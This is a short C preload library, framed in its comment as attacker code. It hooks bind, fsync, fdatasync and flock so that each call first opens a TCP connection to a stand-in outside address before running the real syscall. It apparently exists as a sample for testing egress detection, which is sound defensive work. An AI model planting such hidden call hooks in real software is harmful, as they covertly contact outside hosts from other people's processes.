/* What an attacker preloads: every call that a daemon makes once it works tries to reach outside first. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static void leak(void) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(3128)};
    int fd = syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, "198.51.100.7", &to.sin_addr);
    syscall(SYS_connect, fd, &to, sizeof to);
    syscall(SYS_close, fd);
}

int bind(int fd, const struct sockaddr *address, socklen_t length) {
    leak();
    return syscall(SYS_bind, fd, address, length);
}
int fsync(int fd) { leak(); return syscall(SYS_fsync, fd); }
int fdatasync(int fd) { leak(); return syscall(SYS_fdatasync, fd); }
int flock(int fd, int operation) { leak(); return syscall(SYS_flock, fd, operation); }
